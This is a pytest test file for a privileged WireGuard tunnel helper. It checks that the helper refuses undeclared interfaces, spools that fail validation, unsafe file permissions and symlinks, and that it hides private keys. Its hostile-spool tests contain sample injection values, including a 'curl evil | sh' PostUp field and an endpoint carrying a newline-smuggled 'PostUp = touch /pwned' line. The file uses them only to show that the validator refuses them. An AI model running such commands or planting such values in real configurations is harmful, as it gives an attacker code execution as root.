"""The fabric through the root helper (``tva-tunnel up|down fabric tvaN``): the controller hands
over a spool file, and the helper applies it only when node.toml declares the interface and the
spool passes the same closed rules again; anything else is refused before the network is
touched (``LocalFabricLink`` is replaced by a recorder here; tests/lab/test_fabric.py runs the
real thing)."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from controller.act.fabric_link import HelperFabricLink, spool_path
from controller.cli import tunnel_helper
from controller.cli.tunnel_helper import read_spool, run
from controller.clients import wireguard as wg
from controller.clients.tunnel import fabric_argv
from controller.nodeconfig import load
from schemas.fabric import WgConfig, WgPeer
from schemas.fabric_spool import FabricSpool
from schemas.node import FabricConfig, NodeConfig, TunnelPath, TunnelsConfig
from tests.conftest import REPO_ROOT

KEY = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk="
PEER = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg="
PRIVATE = "CIAk0Y8Ft8NqSSRx7lqvG9ghBq7Iw9fEj7Q2b6pVb3M="


def _spool(**change: Any) -> dict[str, Any]:
    spool: dict[str, Any] = {
        "version": 1, "interface": "tva0", "subnet": ["10.99.0.0/24"],
        "addresses": ["10.99.0.3/24"], "listen_port": 51820, "forwarding": False,
        "peers": [{"device": "seedbox", "public_key": PEER,
                   "allowed_ips": ["10.99.0.1/32", "10.99.0.2/32"],
                   "endpoint": "192.168.77.2:51820", "keepalive": 25}],
    }
    spool.update(change)
    return spool


class Node:
    """A node.toml, a spool directory and a secrets directory in tmp_path."""

    def __init__(self, root: Path, fabric: str = 'interface = "tva0"') -> None:
        self.root = root
        self.spool = root / "spool"
        self.spool.mkdir(mode=0o700)
        self.secrets = root / "secrets"
        self.secrets.mkdir(mode=0o700)
        (self.secrets / "tva0.key").write_text(PRIVATE + "\n")
        self.config = root / "node.toml"
        self.config.write_text(f'[tunnels]\nvia = "sudo"\n[secrets]\ndirs = ["{self.secrets}"]\n'
                               f'[fabric]\n{fabric}\nspool = "{self.spool}"\n')

    def write(self, spool: dict[str, Any] | str, name: str = "tva0.json") -> Path:
        path = self.spool / name
        path.write_text(spool if isinstance(spool, str) else json.dumps(spool))
        path.chmod(0o600)
        return path

    def helper(self, *argv: str) -> int:
        return run(list(argv), config=str(self.config), check_owner=False)


@pytest.fixture
def applied(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, Any]]:
    """What reached the privileged link (nothing, for a refusal)."""
    calls: list[tuple[str, Any]] = []
    monkeypatch.setattr(wg.LocalFabricLink, "apply",
                        lambda self, spool, key: calls.append(("apply", (spool, key))))
    monkeypatch.setattr(wg.LocalFabricLink, "down",
                        lambda self, interface: calls.append(("down", interface)))
    monkeypatch.setattr(wg, "host_networks", lambda: ([("192.168.1.5/24", "eth0")],
                                                      [("192.168.1.0/24", "eth0")]))
    return calls


def test_a_valid_spool_is_applied_with_the_key_from_the_secrets_directory(
        tmp_path: Path, applied: list[tuple[str, Any]]) -> None:
    node = Node(tmp_path)
    node.write(_spool())
    assert node.helper("up", "fabric", "tva0") == 0
    assert node.helper("down", "fabric-tva0") == 0  # the unit's instance form
    (kind, (spool, key)), down = applied
    assert kind == "apply" and key == PRIVATE and spool.addresses == ["10.99.0.3/24"]
    assert down == ("down", "tva0")


@pytest.mark.parametrize(("fabric", "argv", "why"), [
    ("", ["up", "fabric", "tva0"], "not declared in node.toml"),
    ('interface = "tva1"', ["up", "fabric", "tva0"], "not declared in node.toml"),
    ('interface = "tva1"', ["down", "fabric", "tva0"], "not declared in node.toml"),
], ids=["no-fabric-section", "another-interface", "down-another-interface"])
def test_an_undeclared_fabric_is_refused(tmp_path: Path, applied: list[tuple[str, Any]],
                                         capsys: pytest.CaptureFixture[str], fabric: str,
                                         argv: list[str], why: str) -> None:
    node = Node(tmp_path, fabric)
    node.write(_spool())
    assert node.helper(*argv) == 1
    assert applied == []
    assert why in capsys.readouterr().err


@pytest.mark.parametrize(("spool", "why"), [
    (_spool(PostUp="curl evil | sh"), "PostUp: Extra inputs are not permitted"),
    (_spool(peers=[{**_spool()["peers"][0], "PresharedKey": KEY}]), "Extra inputs"),
    (_spool(private_key=PRIVATE), "private_key: Extra inputs"),
    (_spool(peers=[{**_spool()["peers"][0],
                    "endpoint": "192.168.77.2:51820\nPostUp = touch /pwned"}]), "endpoint"),
    (_spool(peers=[{**_spool()["peers"][0], "public_key": KEY[:-1] + "\n"}]), "public_key"),
    (_spool(addresses=["10.98.0.3/24"]), "not in the fabric subnet"),
    (_spool(addresses=["10.99.0.3/16"]), "not in the fabric subnet"),
    (_spool(peers=[{**_spool()["peers"][0], "allowed_ips": ["10.99.0.1/32", "10.50.0.1/32"]}]),
     "AllowedIPs 10.50.0.1/32 is outside the fabric subnet"),
    (_spool(peers=[{**_spool()["peers"][0], "allowed_ips": ["0.0.0.0/0"]}]),
     "only host addresses"),
    (_spool(subnet=["8.8.8.0/24"], addresses=["8.8.8.3/24"]), "not a private IPv4 network"),
    (_spool(subnet=["10.0.0.0/8"], addresses=["10.99.0.3/8"]), "wider than a /16"),
    (_spool(interface="eth0"), "interface"),
    (_spool(interface="tva1"), "the spool is for tva1, node.toml declares tva0"),
    ("[Interface]\nPrivateKey = x\nPostUp = touch /pwned\n", "Invalid JSON"),
], ids=["wg-quick-key", "peer-extra-key", "private-key", "endpoint-with-a-line",
        "key-with-a-line", "address-outside", "address-wider-prefix", "allowed-ip-outside",
        "allowed-ip-default-route", "public-subnet", "wide-subnet", "foreign-interface",
        "other-interface", "not-json"])
def test_a_hostile_spool_is_refused(tmp_path: Path, applied: list[tuple[str, Any]],
                                    capsys: pytest.CaptureFixture[str],
                                    spool: dict[str, Any] | str, why: str) -> None:
    node = Node(tmp_path)
    node.write(spool)
    assert node.helper("up", "fabric", "tva0") == 1
    assert applied == []
    err = capsys.readouterr().err
    assert "refused" in err and why in err, err


def test_a_subnet_outside_the_operators_allow_list_is_refused(
        tmp_path: Path, applied: list[tuple[str, Any]], capsys: pytest.CaptureFixture[str]) -> None:
    node = Node(tmp_path, 'interface = "tva0"\nallow = ["10.99.0.0/16"]')
    node.write(_spool(subnet=["10.98.0.0/24"], addresses=["10.98.0.3/24"],
                      peers=[{**_spool()["peers"][0], "allowed_ips": ["10.98.0.1/32"]}]))
    assert node.helper("up", "fabric", "tva0") == 1
    assert "not inside node.toml's [fabric] allow" in capsys.readouterr().err
    node.write(_spool())  # inside the allow-list
    assert node.helper("up", "fabric", "tva0") == 0
    assert [k for k, _ in applied] == ["apply"]


def test_a_colliding_subnet_is_refused_by_the_helper_too(
        tmp_path: Path, applied: list[tuple[str, Any]], monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(wg, "host_networks", lambda: ([("10.99.0.7/24", "eth1")], []))
    node = Node(tmp_path)
    node.write(_spool())
    assert node.helper("up", "fabric", "tva0") == 1
    assert applied == []
    assert "collides with 10.99.0.7/24 on eth1" in capsys.readouterr().err


def test_the_spool_file_itself_must_be_trustworthy(
        tmp_path: Path, applied: list[tuple[str, Any]], capsys: pytest.CaptureFixture[str]) -> None:
    node = Node(tmp_path)
    assert node.helper("up", "fabric", "tva0") == 1  # missing
    other = node.write(_spool(), name="elsewhere.json")
    (node.spool / "tva0.json").symlink_to(other)
    assert node.helper("up", "fabric", "tva0") == 1  # a link
    (node.spool / "tva0.json").unlink()
    node.write(_spool()).chmod(0o620)
    assert node.helper("up", "fabric", "tva0") == 1  # writable by the group
    node.write(_spool())
    node.spool.chmod(0o777)
    assert node.helper("up", "fabric", "tva0") == 1  # anyone may swap it
    node.spool.chmod(0o700)
    node.write("x" * (2 << 20))
    assert node.helper("up", "fabric", "tva0") == 1  # too large
    (node.secrets / "tva0.key").write_text("not a key\n")
    node.write(_spool())
    assert node.helper("up", "fabric", "tva0") == 1  # no usable private key
    assert applied == []
    err = capsys.readouterr().err
    for why in ("No such file", "links", "regular file only its owner can write",
                "must be a directory (not a link)", "larger than", "no valid private key"):
        assert why in err, (why, err)


def test_what_the_controller_writes_is_what_the_helper_reads(tmp_path: Path) -> None:
    node = Node(tmp_path)
    config = load(str(node.config))
    called: list[tuple[str, str]] = []

    def invoke(verb: str, iface: str) -> str:
        called.append((verb, iface))
        return ""

    link = HelperFabricLink(config, invoke=invoke)
    wanted = WgConfig(interface="tva0", addresses=("10.99.0.3/24",), listen_port=51820,
                      forwarding=True,
                      peers=(WgPeer(public_key=PEER, allowed_ips=("10.99.0.1/32",),
                                    endpoint=None, keepalive=None, device="nas"),))
    link.apply(FabricSpool.of(["10.99.0.0/24"], wanted), PRIVATE)
    link.down("tva0")
    assert link.show("tva0") is None  # the helper printed nothing: no such interface
    assert called == [("up", "tva0"), ("down", "tva0"), ("show", "tva0")]
    path = spool_path(config, "tva0")
    assert os.stat(path).st_mode & 0o777 == 0o600
    assert PRIVATE not in Path(path).read_text(), "the private key is never handed over"
    read = read_spool(path)
    assert isinstance(read, FabricSpool) and read.config() == wanted


def test_the_helper_writes_only_wg_syncconf_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[str] = []
    monkeypatch.setattr(wg.LocalFabricLink, "up", lambda self, *a: None)
    monkeypatch.setattr(wg.LocalFabricLink, "sync", lambda self, i, text: written.append(text))
    wg.LocalFabricLink().apply(FabricSpool.model_validate(_spool()), PRIVATE)
    keys = {ln.split(" = ")[0] for ln in written[0].splitlines() if " = " in ln}
    assert keys == {"PrivateKey", "ListenPort", "PublicKey", "AllowedIPs", "Endpoint",
                    "PersistentKeepalive"}


def test_the_fabric_goes_through_the_helper_unless_the_node_runs_it_itself() -> None:
    fabric = FabricConfig(interface="tva0")
    via = {p: NodeConfig(fabric=fabric, tunnels=TunnelsConfig(via=p)) for p in TunnelPath}
    assert fabric_argv(via[TunnelPath.systemd], "tva0", True) == [
        "/usr/bin/systemctl", "reload-or-restart", "--no-ask-password",
        "tva-tunnel@fabric-tva0.service"]
    assert fabric_argv(via[TunnelPath.systemd], "tva0", False)[1] == "stop"  # type: ignore[index]
    assert fabric_argv(via[TunnelPath.sudo], "tva0", True) == [
        "/usr/bin/sudo", "-n", "/usr/sbin/tva-tunnel", "up", "fabric", "tva0"]
    assert fabric_argv(via[TunnelPath.direct], "tva0", True) is None
    assert fabric_argv(via[TunnelPath.sudo], "tva1", True) is None  # not declared
    assert tunnel_helper.USAGE.startswith("usage: tva-tunnel")


def test_show_is_read_only_declared_only_and_hides_the_private_key(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    dump = (f"{PRIVATE}\t{KEY}\t51820\toff\n"
            f"{PEER}\t(none)\t192.168.77.2:51820\t10.99.0.1/32\t1700000000\t10\t20\t25\n")
    ran: list[list[str]] = []

    def fake_run(argv: list[str], *, stdin: str | None = None) -> str:
        ran.append(list(argv))
        return dump

    monkeypatch.setattr(wg, "_run", fake_run)
    monkeypatch.setattr(tunnel_helper.os.path, "exists", lambda p: True)
    node = Node(tmp_path)
    assert node.helper("show", "fabric", "tva0") == 0
    out = capsys.readouterr().out
    assert PRIVATE not in out and out.startswith("(hidden)\t" + KEY)
    parsed = wg.parse_dump(out)
    assert parsed.public_key == KEY and parsed.peers[0].rx == 10
    assert ran == [[wg.WG, "show", "tva0", "dump"]]  # one read, nothing else
    for argv in (["show", "fabric", "tva1"], ["show", "vpn", "home-wg"]):  # not declared
        assert node.helper(*argv) == 1
    assert len(ran) == 1
    assert "not declared" in capsys.readouterr().err


def test_a_controller_that_is_not_root_reads_handshakes_through_the_helper(
        monkeypatch: pytest.MonkeyPatch) -> None:
    from controller.clients import tunnel
    asked: list[tuple[str, str]] = []

    def helper_show(config: NodeConfig, kind: str, name: str) -> str:
        asked.append((kind, name))
        return (f"(hidden)\t{KEY}\t51820\toff\n"
                f"{PEER}\t(none)\t(none)\t10.66.0.1/32\t1700000000\t1\t2\toff\n"
                f"{KEY}\t(none)\t(none)\t10.66.0.3/32\t1700000100\t1\t2\toff\n")

    monkeypatch.setattr(tunnel, "helper_show", helper_show)
    sudo = NodeConfig(tunnels=TunnelsConfig(via=TunnelPath.sudo))
    assert tunnel.latest_handshake("wg-home", profile="home-wg", config=sudo) == 1700000100
    assert asked == [("vpn", "home-wg")]
    assert tunnel.helper_show is helper_show
    direct = NodeConfig()
    monkeypatch.setattr(tunnel, "_read", lambda argv: "peer\t1700000200\n")
    assert tunnel.latest_handshake("wg-home", profile="home-wg", config=direct) == 1700000200
    assert asked == [("vpn", "home-wg")]  # direct: read here, not through the helper


def test_the_shipped_units_match_the_documented_path() -> None:
    """The controller's unit grants no capability (every privileged step, switching and
    reading, goes through the helper), and what the controller runs is what polkit and
    sudoers allow."""
    units = REPO_ROOT / "examples" / "systemd"

    def settings(name: str) -> list[str]:
        return [ln.strip() for ln in (units / name).read_text().splitlines()
                if ln.strip() and not ln.lstrip().startswith("#")]

    controller = settings("tva@.service")
    assert "CapabilityBoundingSet=" in controller and "AmbientCapabilities=" in controller
    assert not any("CAP_" in ln for ln in controller)
    assert "ExecReload=/usr/sbin/tva-tunnel up %i" in settings("tva-tunnel@.service")
    assert "ExecStart=/usr/sbin/tva-tunnel show %i" in settings("tva-tunnel-show@.service")
    rules = (units / "tva-tunnel.rules").read_text()
    fabric = NodeConfig(fabric=FabricConfig(interface="tva0"),
                        tunnels=TunnelsConfig(via=TunnelPath.systemd))
    for up in (True, False):
        verb = fabric_argv(fabric, "tva0", up)[1]  # type: ignore[index]
        assert f'verb == "{verb}"' in rules
    assert "tva-tunnel-show@" in rules
    sudoers = (units / "tva-tunnel.sudoers").read_text()
    for verb in ("up", "down", "show"):
        for kind in ("vpn", "fabric"):
            assert f"/usr/sbin/tva-tunnel {verb} {kind} *" in sudoers
